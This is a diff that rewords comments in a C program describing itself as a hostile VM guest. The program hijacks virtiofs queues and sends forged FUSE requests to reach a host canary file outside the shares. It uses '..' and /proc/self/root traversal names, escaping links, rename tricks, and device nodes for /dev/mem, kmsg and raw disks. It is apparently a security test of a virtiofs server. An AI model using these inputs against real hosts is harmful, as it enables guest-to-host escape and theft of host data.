@@ -1,7 +1,7 @@
 /*
  * A hostile guest. As the guest's first process it takes the virtiofs devices from the kernel's driver, sets up queues of its
- * own, and sends FUSE requests that no kernel would send: "..", absolute names, links that lead out, device nodes. It looks
- * for a file of the host outside of every share, whose path is in the script "canary", and prints what it got of it.
+ * own, and sends FUSE requests that no kernel would send: "..", absolute names, symlinks that lead outside, device nodes. It tries to
+ * read a file of the host outside of every share, whose path is in the script "canary", and prints what it could read.
  *
  * virtio-mmio and virtqueues: virtio 1.2, sections 4.2 and 2.7. FUSE: linux/fuse.h.
  */
@@ -72,7 +72,7 @@ static void set_queue(int number, uint64_t at)
     put(0x44, 1);
 }
 
-/* Finds the device with a tag among those on the kernel's command line, and takes it over. */
+/* Finds the device with a tag among those on the kernel's command line, and resets it for our own queues. */
 static int take(const char *tag)
 {
     static char line[4096];
@@ -109,7 +109,7 @@ static int take(const char *tag)
     return 0;
 }
 
-/* One request: its body is what `size` bytes of `body` and the strings are. The answer's error, its payload in `out`. */
+/* Sends one request: `size` bytes of `body`, then the strings. Returns the error of the reply, whose payload is in `out`. */
 static int ask(uint32_t opcode, uint64_t node, const void *body, size_t size, const char *first, const char *second)
 {
     static uint64_t unique;
@@ -132,7 +132,7 @@ static int ask(uint32_t opcode, uint64_t node, const void *body, size_t size, co
     memcpy((void *)in, &header, sizeof header);
     memset((void *)out, 0, PAGE);
     desc[0] = (struct desc){ in_at, length, 1, 1 };
-    /* As the kernel has it: the answer's header, and what follows it. */
+    /* As the kernel lays it out: the header of the reply, then its payload. */
     desc[1] = (struct desc){ out_at, sizeof(struct fuse_out_header), 2 | 1, 2 };
     desc[2] = (struct desc){ out_at + sizeof(struct fuse_out_header), PAGE - sizeof(struct fuse_out_header), 2, 0 };
     avail->ring[turn % ENTRIES] = 0;
@@ -161,7 +161,7 @@ static uint64_t lookup(uint64_t parent, const char *name)
     return ((struct fuse_entry_out *)payload())->nodeid;
 }
 
-/* Reads the start of a file, and prints it under the attempt's name. */
+/* Reads the beginning of a file, and prints it with the name of the attempt. */
 static void show(const char *attempt, uint64_t node)
 {
     struct fuse_open_in open_in = { .flags = O_RDONLY | O_NONBLOCK };
@@ -204,7 +204,7 @@ static void attack(const char *canary)
     strcpy(directory, canary);
     *strrchr(directory, '/') = 0;
 
-    /* What must work, or the rest proves nothing. */
+    /* These requests must succeed, or the failure of the others proves nothing. */
     show("inside", lookup(1, "inside"));
     show("inside, by an odd name", lookup(1, ".//bin/../inside"));
     make(1, "made-by-hand");
@@ -219,7 +219,7 @@ static void attack(const char *canary)
         snprintf(name, sizeof name, "%s/escaped", directory + 1);
         make(node, name);
     }
-    /* By names that lead out. */
+    /* By names that lead outside. */
     static const char *const before[] = { "", "/proc/self/root", "/proc/1/root", "/proc/self/cwd", "/proc/thread-self/root",
         "../../../../../../../../../../../..", "bin/../../../../../../../../../..", "/proc/self/task/1/root" };
     for (size_t i = 0; i < sizeof before / sizeof *before; i++) {
@@ -257,7 +257,7 @@ static void attack(const char *canary)
     ask(FUSE_RENAME, 1, &rename, sizeof rename, canary, "stolen");
     ask(FUSE_UNLINK, 1, "", 0, canary, NULL);
     show("stolen", lookup(1, "stolen"));
-    /* By device nodes: the kernel's memory, its log, the first disks. And a FIFO must not hold anybody up. */
+    /* By device nodes: the kernel's memory, its log, the first disks. A FIFO must not block the server. */
     static const struct { const char *name; int type, major, minor; } nodes[] = { { "mem", S_IFCHR, 1, 1 }, { "kmsg", S_IFCHR, 1, 11 },
         { "zero", S_IFCHR, 1, 5 }, { "vda", S_IFBLK, 254, 0 }, { "sda", S_IFBLK, 8, 0 }, { "nvme", S_IFBLK, 259, 0 }, { "fifo", S_IFIFO, 0, 0 } };
     for (size_t i = 0; i < sizeof nodes / sizeof *nodes; i++) {
